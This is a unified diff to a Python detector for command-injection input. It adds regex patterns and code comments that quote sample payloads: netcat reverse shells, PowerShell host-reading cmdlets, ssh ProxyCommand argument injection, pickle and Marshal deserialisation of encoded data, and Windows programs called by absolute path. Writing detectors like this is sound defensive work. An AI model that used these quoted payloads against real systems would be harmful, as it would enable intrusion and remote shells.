@@ -59,7 +59,7 @@ DISTINCT_COMMANDS = frozenset(
     setcap getcap regedit pip2 pip3 bsdtar lwp-download lwp-request lwp-mirror
     netsh nltest dsquery dsget fsutil auditpol cmdkey gpresult driverquery getmac wevtutil esentutl
     ntdsutil diskpart mountvol qprocess msbuild makecab lsb_release ping6 lspci waitfor unbuffer stdbuf setsid
-    ionice taskset chrt run-parts gwmi gcim""".split()
+    ionice taskset chrt run-parts gwmi gcim usleep ulimit expr whereis""".split()
 )
 # Windows' desktop programs that a proof of concept starts ("& calc", "| notepad.exe"): ordinary
 # words too ("pre-calc"), so they are in `COMMON_WORDS`; by their ".exe" name they are the program
@@ -81,6 +81,8 @@ _SEPARATOR = re.compile(r";|\|\|?|&&?|\n|\r|`|\$\(|\(|\{|<\(|>\(|t(?<=\bt)hen\b|
 _WORD = re.compile(r"[\s]{0,16}((?:[a-z0-9_./\\\-'\"$@*?!{}\[\],`()^]|\$\{[a-z0-9_#@!:]{0,16}\}){1,60})")
 _STRONG = linear(
     r"\$\{?ifs\b|\$\{?ifs\}|/dev/(?:tcp|udp)/|\bbash[\s]{1,8}-[ic]\b|\bsh[\s]{1,8}-[ic]\b|\bnc(?:at)?[\s]{1,8}(?:-[a-z]{1,4}[\s]{1,8}){0,4}-e\b"
+    # netcat's other program option, handed a shell ("nc -c sh 10.0.0.1 4444", "ncat -c /bin/bash")
+    r"|\b(?:nc|ncat|netcat)[\s]{1,8}(?:-[a-z]{1,4}[\s]{1,8}){0,4}-c[\s]{1,8}['\"]?(?:/bin/)?(?:ba|z|k|da)?sh\b"
     # netcat's reverse shell with the program after the address ("nc 10.0.0.1 4444 -e sh",
     # "ncat -v x.example 443 -c bash"): a host, a port, then the program it hands the socket to
     r"|\b(?:nc|ncat|netcat)(?:\.exe)?[\s]{1,8}(?:-[a-z]{1,4}[\s]{1,8}){0,4}[a-z0-9.:\-]{1,64}[\s]{1,8}[0-9]{1,5}[\s]{1,8}-[ec][\s]{1,8}[a-z/\\]"
@@ -153,7 +155,7 @@ _STRONG = linear(
     # "net start" (the running services listed) closing the value
     r"|(?:[;&|\n]|%0a)[\s]{0,4}net1?[\s]{1,8}start[\s]{0,8}(?:$|[;&|#'\"])"
     # PowerShell cmdlets (Verb-Noun) that read the host, after a separator: "| Get-Process", "; Get-ChildItem c:\\"
-    r"|(?:[;&|\n]|%0a)[\s]{0,4}(?:get|set|new|remove|start|stop|invoke|add|test|resolve|copy|move|out)-(?:process|childitem|content|itemproperty"
+    r"|(?:[;&|\n]|%0a|\$\()[\s]{0,4}(?:get|set|new|remove|start|stop|invoke|add|test|resolve|copy|move|out)-(?:process|childitem|content|itemproperty"
     r"|service|wmiobject|ciminstance|localuser|localgroup(?:member)?|acl|executionpolicy|psdrive|hotfix|netipaddress"
     r"|nettcpconnection|mppreference|computerinfo|aduser|scheduledtask|sleep|connection|netconnection|dnsname|item|restmethod)\b"
     # a command that calls itself through a pipe in the background: the fork bomb, any name
@@ -170,12 +172,14 @@ _STRONG = linear(
     # the environment drive listed ("gci env:", "ls env:*"), the AMSI bypass's reflection ("[Ref].Assembly"),
     # a socket or web client built ("New-Object System.Net.Sockets.TCPClient(...)")
     r"|(?:^|[;|&\n(])[\s]{0,4}(?:gci|ls|dir|get-childitem|gc|get-content|type)[\s]{1,4}env:"
+    # an environment variable printed by PowerShell where a command begins, ending the value ("& $env:computername")
+    r"|(?:[;&|\n]|%0a)[\s]{0,4}\$env:[a-z_][a-z0-9_]{1,30}[\s]{0,4}$"
     r"|\[ref\]\.assembly\b|\bnew-object[\s]{1,8}(?:-typename[\s]{1,8})?(?:system\.)?net\.(?:webclient|sockets\.(?:tcpclient|udpclient|tcplistener))\b"
     # an editor or pager told to run a shell command: "vi -c ':!id'", "vim -c '!sh'"
     r"|\b(?:vim?|nvim|ex)[\s]{1,8}-c[\s]{1,8}['\"]?:?!"
     # argument injection: an option that makes ssh, git, tar or rsync run a program
     # ("-oProxyCommand=id", "--upload-pack=touch /tmp/x", "--checkpoint-action=exec=sh x.sh")
-    r"|(?:^|[\s'\"])-o[\s]{0,4}['\"]?(?:proxycommand|localcommand)[\s]{0,4}="
+    r"|(?:^|[\s'\"`])-o[\s]{0,4}['\"]?(?:proxycommand|localcommand)[\s]{0,4}="
     r"|(?:^|[\s'\"])--(?:upload-pack|receive-pack|checkpoint-action|use-compress-program|to-command|rsh-command|rsync-path|info-script|new-volume-script)[\s]{0,4}="
     r"|(?:^|[\s'\"])-c[\s]{0,4}['\"]?core\.(?:sshcommand|pager|editor|fsmonitor|hookspath|gitproxy)[\s]{0,4}="
     # the shell fed a here-string ("$0<<<$'\\x69\\x64'", "bash<<<id"), a command spelled in ANSI-C escapes
@@ -255,6 +259,13 @@ _CODE = linear(
     r"|(?:^|[;{(\s])while\((?:[^()]{0,30}|\([^()]{0,20}\)){1,2}\)[\s]{0,4}(?:;|\{|\)|$)"
     r"|(?:^|[;{(])[\s]{0,4}while[\s]{1,4}\([\s]{0,4}(?:!|true|1|[+-]?infinity)[^()]{0,12}\)[\s]{0,4}(?:;|\{)"
     r"|\bconsole[\s]{0,4}(?:\.[\s]{0,4}(?:log|info|warn|error|debug|trace|dir|table)|\[[\s]{0,4}['\"][a-z]{2,10}['\"][\s]{0,4}\])[\s]{0,4}(?:\(|\.call\b|\.apply\b)"
+    # Ruby's process helpers and dynamic dispatch to a command runner ("Open3.capture2('id')",
+    # "send(:system, 'id')"), deserialisers of native objects handed data ("Marshal.load(Base64...)",
+    # "pickle.loads(b64decode(...))"), PHP reflection calling a command runner
+    r"|\bopen3\.(?:capture[23]e?|popen[23]e?|pipeline[a-z_]{0,6})[\s]{0,4}[(\s]"
+    r"|\b(?:send|public_send|__send__)[\s]{0,4}\(?[\s]{0,4}:(?:system|exec|spawn|eval|syscall|instance_eval|class_eval|`)"
+    r"|\b(?:marshal\.load|pickle\.loads?|cpickle\.loads?|_pickle\.loads?|dill\.loads?|jsonpickle\.decode)[\s]{0,4}\([\s]{0,4}[a-z0-9_.]{0,30}(?:base64|b64|decode|unhexlify|fromhex|['\"(])"
+    r"|\breflectionfunction[\s]{0,4}\([\s]{0,4}['\"](?:system|exec|passthru|shell_exec|popen|proc_open|assert|eval|pcntl_exec)['\"]"
     r"|\bmodule\.exports[\s]{0,4}=|\brequire[\s]{0,4}\[|\$[0-9a-z]{1,4}:constructor:constructor|\$[0-9a-z]{1,4}:[a-z_]{1,20}:prototype"
 )
 # Groovy runs a string as a command line: "'id'.execute()", "\"cat /etc/passwd\".execute().text"
@@ -656,6 +667,9 @@ _WINDOWS_PATH_ARGUMENT = re.compile(r"(?:/[a-z][\s]{1,4}){0,3}['\"]?(?:[a-z]:\\|
 _PATH_ARGUMENT = re.compile(r"(?:-{1,2}[a-z]{1,12}[\s]{1,4}){0,3}(?:(?:/[a-z0-9_.\\\-]{1,40}){2}|~/|\.\./)")
 
 _BIN_DIRS = ("/bin/", "/usr/bin/", "/sbin/", "/usr/sbin/", "/usr/local/bin/", "/usr/local/sbin/")
+# a program by its absolute Windows path, its last segment the name (".exe" optional): "c:\\windows\\system32\\whoami"
+_WINDOWS_PROGRAM = re.compile(r"[\s]{0,4}['\"]?[a-z]:[\\/](?:[a-z0-9_ .()\-]{1,40}[\\/]){1,8}([a-z0-9_\-]{2,40})(?:\.exe)?['\"]?(?=$|[\s;&|'\"])")
+_WINDOWS_PATH_SEPARATORS = frozenset({";", "&", "&&", "|", "||", "\n", "%0a"})
 
 
 def _starts_with_command(text: str) -> bool:
@@ -824,10 +838,20 @@ def _after_separator(text: str) -> tuple[float, str, int, int] | None:
 def _command_at(
     text: str, pos: int, separator: str = "", at_start: bool = False
 ) -> tuple[float, str, int, int] | None:
+    if separator in _WINDOWS_PATH_SEPARATORS and ":" in text[pos : pos + 8]:
+        program = _WINDOWS_PROGRAM.match(text, pos)
+        if program is not None and _program_no_prose_names(program.group(1)):
+            # "&c:\\windows\\system32\\whoami": a program by its absolute Windows path (no ".exe"
+            # needed), a name no prose uses
+            return (0.9, "cmdi.binary-path", pos, program.end())
     m = _WORD.match(text, pos)
     if m is None:
         return None
     raw = m.group(1)
+    if "\\/" in raw:
+        raw = raw.replace("\\/", "/")  # ";\\/usr\\/bin\\/id": the shell drops the backslash before "/" (JSON's escape)
+        if not raw.startswith("/"):
+            return None
     # a separator's word ends at the next separator-ish character
     masked = raw.replace("$()", "\x01\x01\x01").replace("``", "\x01\x01")  # empty substitutions hide nothing
     for stop in (";", "|", "&", "`", ")", "\n"):
